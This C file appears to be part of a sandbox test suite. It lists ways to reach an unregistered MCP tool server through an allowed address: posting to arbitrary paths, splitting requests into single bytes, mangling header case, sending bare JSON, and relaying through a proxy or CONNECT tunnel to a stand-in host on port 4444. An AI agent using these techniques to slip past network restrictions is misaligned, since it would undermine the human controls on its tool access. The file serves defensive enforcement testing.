/* SPDX-License-Identifier: Apache-2.0 */
/*
 * shadow.c - MCP with a server that nobody registered, at an address that the
 * profile allows: what counts is whether the server gets the message.
 */
#include "bypass.h"

static const char call[] = "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"initialize\",\"params\":{"
			   "\"protocolVersion\":\"2025-11-25\",\"capabilities\":{},"
			   "\"clientInfo\":{\"name\":\"x\",\"version\":\"1\"}}}\n";

static int dial_mcp(void)
{
	int fd = step_socket(LOCAL4, SOCK_STREAM), r = step_connect(fd, LOCAL4, PORT_MCP);

	if (r)
		_exit(r);
	return fd;
}

/* What comes after the signature is what must not arrive. */
static int send_then_mark(int fd, const char *text, size_t piece)
{
	size_t n = strlen(text);

	for (size_t i = 0; i < n; i += piece)
		if (send(fd, text + i, n - i < piece ? n - i : piece, MSG_NOSIGNAL) < 0)
			return errno;
	return step_send(fd);
}

static int post_to(const char *target, const char *header, char *out, size_t bytes)
{
	int n = snprintf(out, bytes,
			 "POST %s HTTP/1.1\r\nHost: example.com\r\n%s"
			 "Content-Type: application/json\r\nContent-Length: %zu\r\n\r\n%s",
			 target, header, sizeof(call) - 1 + MARK_LEN, call);

	return n < 0 || (size_t)n >= bytes ? ENOSPC : 0;
}

static int post(const char *header, char *out, size_t bytes)
{
	return post_to("/anything", header, out, bytes);
}

static int http(struct stage *st ZG_UNUSED)
{
	char text[1024];
	int r = post("", text, sizeof(text));

	return r ? r : send_then_mark(dial_mcp(), text, sizeof(text));
}

static int http_session(struct stage *st ZG_UNUSED)
{
	return send_then_mark(dial_mcp(),
			      "GET /stream HTTP/1.1\r\nHost: example.com\r\n"
			      "Mcp-Session-Id: 1234\r\nAccept: text/event-stream\r\n\r\n",
			      1024);
}

static int by_bytes(struct stage *st ZG_UNUSED)
{
	char text[1024];
	int one = 1, fd = dial_mcp();
	int r = post("mCP-pROTOCOL-vERSION: 2025-06-18\r\n", text, sizeof(text));

	(void)setsockopt(fd, IPPROTO_TCP, 1 /* TCP_NODELAY */, &one, sizeof(one));
	return r ? r : send_then_mark(fd, text, 1);
}

static int bare(struct stage *st ZG_UNUSED)
{
	return send_then_mark(dial_mcp(), call, sizeof(call));
}

/* What listens there goes on to another server, as it is told to. */
static int by_proxy(struct stage *st ZG_UNUSED)
{
	char text[1024];
	int r = post_to("http://" OUT4 ":4444/mcp", "", text, sizeof(text));

	return r ? r : send_then_mark(dial_mcp(), text, sizeof(text));
}

/* Without waiting for its answer: the tunnel's first bytes are in the same message. */
static int by_tunnel(struct stage *st ZG_UNUSED)
{
	static const char tunnel[] = "CONNECT " OUT4 ":4444 HTTP/1.1\r\nHost: " OUT4 "\r\n\r\n";
	char text[1024];
	int r = post("", text, sizeof(text)), fd;

	if (r)
		return r;
	fd = dial_mcp();
	if (send(fd, tunnel, sizeof(tunnel) - 1, MSG_NOSIGNAL) < 0)
		return errno;
	return send_then_mark(fd, text, sizeof(text));
}

static const struct attempt shadow_attempts_rows[] = {
	{"shadow-http", T_SHADOW, "initialize, posted to any path", http},
	{"shadow-session", T_SHADOW, "a request with a session's header", http_session},
	{"shadow-bytes", T_SHADOW, "a byte a packet, in other letters", by_bytes},
	{"shadow-bare", T_SHADOW, "initialize without HTTP", bare},
	{"proxy-post", T_PROXY, "initialize for another server, to an allowed proxy", by_proxy},
	{"proxy-tunnel", T_PROXY, "the same through CONNECT", by_tunnel},
};
ATTEMPTS(shadow_attempts);
